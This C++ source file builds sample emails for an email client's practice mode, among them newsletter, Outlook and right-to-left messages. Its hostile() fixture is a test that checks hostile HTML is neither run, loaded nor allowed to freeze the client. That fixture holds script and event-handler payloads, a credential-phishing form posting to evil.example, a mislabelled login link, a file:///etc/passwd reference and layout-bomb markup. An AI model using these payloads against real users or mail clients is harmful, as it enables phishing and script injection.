// SPDX-FileCopyrightText: 2026 The Sendoff authors
// SPDX-License-Identifier: GPL-3.0-or-later

#include "practice/practicefiles.h"
#include "practice/samplebook.h"

using namespace Qt::StringLiterals;

namespace Sendoff::Practice {

namespace {

// What newsletter tools make: a hidden preheader, nested layout tables, a button, images from the internet.
QString newsletter()
{
    return uR"(<!doctype html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><title>Spring at Contoso Storage</title><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1">
<style type="text/css">#outlook a { padding:0; } body { margin:0;padding:0;-webkit-text-size-adjust:100%; } table, td { border-collapse:collapse;mso-table-lspace:0pt;mso-table-rspace:0pt; } img { border:0;height:auto;line-height:100%; outline:none;text-decoration:none; } @media only screen and (min-width:480px) { .mj-column-per-50 { width:50% !important; max-width: 50%; } }</style>
<!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch></o:OfficeDocumentSettings></xml></noscript><![endif]--></head>
<body style="word-spacing:normal;background-color:#f4f4f4;"><div style="display:none;font-size:1px;color:#ffffff;line-height:1px;max-height:0px;max-width:0px;opacity:0;overflow:hidden;">Racks for cold stores, and 4 % off until 15 April</div>
<div style="background-color:#f4f4f4;"><div style="margin:0px auto;max-width:600px;background:#0f6cbd;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;background:#0f6cbd;"><tbody><tr><td style="padding:20px 0;text-align:center;">
<img alt="Contoso Storage" src="https://images.contoso.com/news/2026-spring/header.png" width="560" height="120"><div style="font-family:Segoe UI,Helvetica,Arial,sans-serif;font-size:26px;color:#ffffff;padding:10px 25px;">Spring at Contoso Storage</div></td></tr></tbody></table></div>
<div style="margin:0px auto;max-width:600px;background:#ffffff;"><table align="center" border="0" cellpadding="0" cellspacing="0" role="presentation" style="width:100%;background:#ffffff;"><tbody><tr><td style="padding:20px 0;">
<table border="0" cellpadding="0" cellspacing="0" role="presentation" width="100%"><tbody><tr><td width="50%" style="padding:10px 25px;vertical-align:top;"><img src="https://images.contoso.com/news/2026-spring/cold.jpg" width="240" height="150" alt="Cold-store rack"><p style="font-family:Segoe UI,Arial,sans-serif;font-size:15px;"><b>Down to −30 °C</b><br>Our new cold-store racks keep their strength where steel gets brittle.</p></td>
<td width="50%" style="padding:10px 25px;vertical-align:top;"><img src="https://images.contoso.com/news/2026-spring/archive.jpg" width="240" height="150" alt="Mobile shelves"><p style="font-family:Segoe UI,Arial,sans-serif;font-size:15px;"><b>Mobile shelves</b><br>Twice the files on the same floor, moved with one finger.</p></td></tr></tbody></table>
<table border="0" cellpadding="0" cellspacing="0" role="presentation" align="center"><tbody><tr><td align="center" bgcolor="#0f6cbd" style="border-radius:4px;"><a href="https://www.contoso.com/spring?utm_source=mail" style="display:inline-block;color:#ffffff;font-family:Segoe UI,Arial,sans-serif;font-size:15px;padding:10px 25px;text-decoration:none;">See the price list</a></td></tr></tbody></table>
</td></tr></tbody></table></div><p style="font-family:Segoe UI,Arial,sans-serif;font-size:11px;color:#777777;text-align:center;">Contoso Storage, Speicherstrasse 4, Hamburg · <a href="https://www.contoso.com/unsubscribe">Unsubscribe</a></p></div></body></html>)"_s;
}

// What desktop Outlook writes: Word's styles, conditional comments, o:p.
QString wordMade()
{
    return uR"html(<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40"><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\:* {behavior:url(#default#VML);} o\:* {behavior:url(#default#VML);}</style><![endif]--><style><!--
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;} @font-face {font-family:Aptos;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Aptos",sans-serif; mso-ligatures:standardcontextual; mso-fareast-language:EN-US;}
table.MsoTableGrid {border:solid windowtext 1.0pt; mso-border-alt:solid windowtext .5pt; mso-yfti-tbllook:1184;} span.EmailStyle17 {mso-style-type:personal-compose; font-family:"Aptos",sans-serif; color:windowtext;} @page WordSection1 {size:612.0pt 792.0pt; margin:72.0pt 72.0pt 72.0pt 72.0pt;} div.WordSection1 {page:WordSection1;}
--></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--></head><body lang="EN-GB" link="#467886" vlink="#96607D" style="word-wrap:break-word"><div class="WordSection1">
<p class="MsoNormal">Dear Grace,<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">as agreed, the plan for the move of the archive:<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:none"><tr style="mso-yfti-irow:0"><td width="200" valign="top" style="width:150.2pt;border:solid windowtext 1.0pt;background:#DEEAF6;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b>Step<o:p></o:p></b></p></td><td width="200" valign="top" style="width:150.2pt;border:solid windowtext 1.0pt;border-left:none;background:#DEEAF6;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal"><b>Date<o:p></o:p></b></p></td></tr>
<tr style="mso-yfti-irow:1;mso-yfti-lastrow:yes"><td valign="top" style="border:solid windowtext 1.0pt;border-top:none;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal">Shelves 1–40 to hall C<o:p></o:p></p></td><td valign="top" style="border-top:none;border-left:none;border-bottom:solid windowtext 1.0pt;border-right:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal">Mon 4 May<o:p></o:p></p></td></tr></table>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoListParagraph" style="margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1"><![if !supportLists]><span style="font-family:Symbol;mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span><![endif]>Please label all boxes.<o:p></o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal">Kind regards<o:p></o:p></p><p class="MsoNormal">Anna<o:p></o:p></p></div></body></html>)html"_s;
}

QString owaMade()
{
    return uR"(<style type="text/css" style="display:none;">P {margin-top:0;margin-bottom:0;}</style><div class="elementToProof" style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">Hello Grace,</div><div class="elementToProof" style="font-family: Aptos, Calibri, Helvetica, sans-serif; font-size: 12pt;"><br></div><div class="elementToProof" style="font-size: 12pt;">the visitors' badges are at the reception. Gate 3 opens at 8:30.</div><div><br></div>
<div id="Signature"><table cellspacing="0" cellpadding="0" style="border-left: 3px solid rgb(15, 108, 189);"><tbody><tr><td style="padding-left: 12px;"><div style="font-size: 11pt;"><b>Anna Weber</b></div><div style="font-size: 9pt; color: rgb(96, 94, 92);">Sales · Contoso Storage · +49 40 555 0146</div><img src="cid:logo@contoso" width="160" height="48" alt="Contoso Storage"></td></tr></tbody></table></div>)"_s;
}

// Everything that must not run, load or freeze: scripts, events, frames, forms, absurd spans, deep nesting,
// size.
QString hostile()
{
    QString html
        = uR"html(<script>alert("no")</script><p onclick="alert(1)" style="position:fixed;top:-9999px">Positioned away</p><img src=x onerror="alert(2)"><iframe src="https://evil.example/"></iframe><object data="file:///etc/passwd"></object><form action="https://evil.example/"><input name="password" type="password"><button>Sign in</button></form>
<a href="javascript:alert(3)">https://www.contoso.com/login</a> <a href="https://evil.example/login">https://www.contoso.com/login</a><link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css); body { background:url(https://evil.example/z.png) } td { font-size:99999px }</style>
<table><tr><td colspan="99999999" rowspan="99999999">wide</td></tr></table><table width="999999999" cellpadding="999999"><tr><td>x</td></tr></table>)html"_s;
    for (int i = 0; i < 400; ++i)
        html += u"<table><tr><td><div><blockquote>"_s;
    html += u"<p>At the bottom of 400 nested tables.</p>"_s;
    for (int i = 0; i < 6000; ++i)
        html
            += u"<p><b><i><font color=red>Line %1 &#x202e;of a long text</i></b> &amp;&nbsp;&bogus; <unknown></p>"_s
                   .arg(i);
    return html;
}

Person someone(const QString &name, const QString &address)
{
    return {name, address};
}

QList<Sample> makeSpecial()
{
    const Person grace = someone(u"Grace Mbeki"_s, u"grace.mbeki@contoso.com"_s);
    PracticeAttachment cloud = fileOf(u"Floor plans.txt"_s, 0);
    cloud.kind = FileKind::CloudFile;
    cloud.contentType.clear();
    cloud.name = u"Floor plans"_s;
    return {
        {.subject = u"Spring at Contoso Storage: racks for cold stores"_s,
         .to = {someone(u"Newsletter Europe"_s, u"newsletter-eu@contoso.com"_s)},
         .body = newsletter()},
        {.subject = u"Plan for the move of the archive"_s, .to = {grace}, .body = wordMade()},
        {.kind = SampleKind::Reply,
         .subject = u"Re: Visit on Friday"_s,
         .to = {grace},
         .body = owaMade(),
         .files = {imageOf(u"image001.png"_s, u"logo@contoso"_s, FileKind::Logo)},
         .original = {.text = u"<p>Hi Anna, which gate do our visitors take on Friday?</p><p>Grace</p>"_s}},
        {.subject = u"Photos of hall C"_s,
         .to = {someone(u"Jonas Beck"_s, u"jonas.beck@fabrikam.com"_s)},
         .body
         = u"<p>Hello Jonas,</p><p>two photos of hall C, our mail from January and the folder with the floor plans.</p><p><img src=\"https://images.contoso.com/hall-c/overview.jpg\" width=\"400\" height=\"260\" alt=\"Hall C\"></p><p>Anna</p><img src=\"https://track.contoso.com/open.gif?id=4711\" width=\"1\" height=\"1\" alt=\"\">"_s,
         .files
         = {fileOf(u"Hall-C-north.jpg"_s, 820), fileOf(u"Your question of 12 January.msg"_s, 24), cloud}},
        {.subject = u"تأكيد موعد التسليم للطلب 48302"_s,
         .to = {someone(u"ليلى منصور"_s, u"layla.mansour@northwindtraders.com"_s)},
         .body
         = u"<div dir=\"rtl\"><p>مرحباً ليلى،</p><p>نؤكد تسليم الطلب <span dir=\"ltr\">48302 (Hall C)</span> يوم الخميس القادم في الساعة العاشرة صباحاً.</p><p>مع أطيب التحيات<br>Anna Weber</p></div>"_s},
        {.subject = u"הצעת מחיר 2310 למדפים – Contoso"_s,
         .to = {someone(u"נועה לוי"_s, u"noa.levi@adatum.com"_s)},
         .body
         = u"<div dir=\"rtl\"><p>שלום נועה,</p><p>מצורפת הצעת המחיר <span dir=\"ltr\">2310</span>. היא בתוקף עד 30 באפריל.</p><p>בברכה,<br>Anna Weber</p></div>"_s,
         .files = {fileOf(u"Quote-2310.pdf"_s, 118)}},
        {.subject = u"Mounting instructions"_s,
         .to = {someone(u"Oliver Grant"_s, u"oliver.grant@adatum.com"_s)},
         .body
         = u"Hello Oliver,\r\n\r\nI have attached the mounting instructions. The film is at https://www.contoso.com/help/mounting?type=wide&lang=en#step-3 .\r\n\r\n    1. Upright frames\r\n    2. Beams, clips inwards\r\n    3. Boards\r\n\r\nAnna"_s,
         .isHtml = false},
        {.subject = {},
         .to = {someone(u"Tomás Rivera"_s, u"tomas.rivera@contoso.com"_s)},
         .body = u"<p>Are the bins for aisle 12 here? 📦 Thanks! 🙏</p>"_s},
        {.subject = u"Dear {{first_name}}, your offer"_s,
         .to = {someone(u"Sofia Marino"_s, u"sofia.marino@alpineskihouse.com"_s)},
         .body
         = u"<p>Dear {{first_name}},</p><p>here is our offer for [company name]. The discount of XX % is valid until «ValidUntil».</p><p>Anna Weber</p>"_s},
        {.kind = SampleKind::Forward,
         .subject = u"WG: Angebot Lagertechnik"_s,
         .to = {someone(u"Ingrid Solberg"_s, u"ingrid.solberg@contoso.com"_s)},
         .body
         = u"<p>Ingrid, bitte lesen: das Angebot von Relecloud. Mir scheint die Wartung zu teuer.</p><p>Anna</p>"_s,
         .files = {fileOf(u"Angebot.pdf"_s, 320)},
         .original
         = {.from = someone(u"Jürgen Groß"_s, u"juergen.gross@relecloud.com"_s),
            .text
            = u"<p>Sehr geehrte Frau Weber,</p><p>anbei unser Angebot für die Wartung Ihrer Fördertechnik.</p>"_s,
            .daysBefore = 3}},
        {.subject = u"[Test] Hostile HTML: must neither run, load nor freeze"_s,
         .to = {someone(u"IT security"_s, u"security@contoso.com"_s)},
         .body = hostile()},
    };
}

} // namespace

QList<Sample> specialSamples()
{
    static const QList<Sample> samples = makeSpecial();
    return samples;
}

} // namespace Sendoff::Practice
